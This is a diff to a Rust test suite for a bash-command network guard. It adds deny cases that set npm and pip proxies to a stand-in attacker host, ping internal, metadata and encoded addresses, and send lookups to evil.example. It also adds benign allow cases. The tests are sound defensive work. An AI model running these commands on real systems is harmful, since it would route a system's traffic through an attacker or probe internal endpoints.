@@ -47,6 +47,10 @@ fn destinations_hidden_in_options_and_environment_are_denied() {
         "WGETRC=/tmp/x wget https://github.com",
         "PIP_CONFIG_FILE=/tmp/x pip install requests",
         "NPM_CONFIG_USERCONFIG=/tmp/x npm i lodash",
+        // Proxies stored for later runs.
+        "npm config set proxy http://evil.example:3128",
+        "npm config set https-proxy=http://evil.example:3128",
+        "pip config set global.proxy evil.example:3128",
         // curl's name servers.
         "curl --dns-servers 203.0.113.9 https://github.com",
         "curl --dns-servers=8.8.8.8,evil.example https://github.com",
@@ -65,7 +69,6 @@ fn destinations_hidden_in_options_and_environment_are_denied() {
         "nslookup -type=TXT github.com evil.example",
         "host github.com evil.example",
         "whois -h evil.example github.com",
-        "dig -f queries.txt",
         "ping -c 3 evil.example",
         "ping6 evil.example",
         "traceroute evil.example",
@@ -74,6 +77,9 @@ fn destinations_hidden_in_options_and_environment_are_denied() {
         "mtr -F hosts.txt",
         "sudo arping -c 5 evil.example",
         "ping -c1 169.254.169.254",
+        "ping -c1 10.0.0.1",
+        "ping -c1 gw.example github.com",
+        "ping -c1 1199092913",
     ] {
         let d = bash(&g, command);
         assert_eq!(d.decision, Verdict::Deny, "{command}: {}", d.reason);
@@ -93,6 +99,8 @@ fn everyday_forms_of_the_same_programs_pass() {
         "rsync -e ssh x github.com:/tmp",
         "rsync -avz -e 'ssh -p 2222 -i ~/.ssh/id_ed25519' x github.com:/tmp",
         "PIP_CONFIG_FILE=/dev/null pip install requests",
+        "npm config set fund false",
+        "pip config set global.timeout 60",
         "openssl s_client -connect github.com:443 -servername github.com",
         "openssl x509 -in cert.pem -noout -text",
         "dig github.com",
@@ -104,6 +112,8 @@ fn everyday_forms_of_the_same_programs_pass() {
         "ping -c 3 github.com",
         "traceroute -n github.com 60",
         "mtr -r -c 10 github.com",
+        "ping -c 1 127.0.0.1",
+        "ping -n 1 %ip%",
     ] {
         let d = bash(&g, command);
         assert!(d.decision < Verdict::Review, "{command}: {}", d.reason);
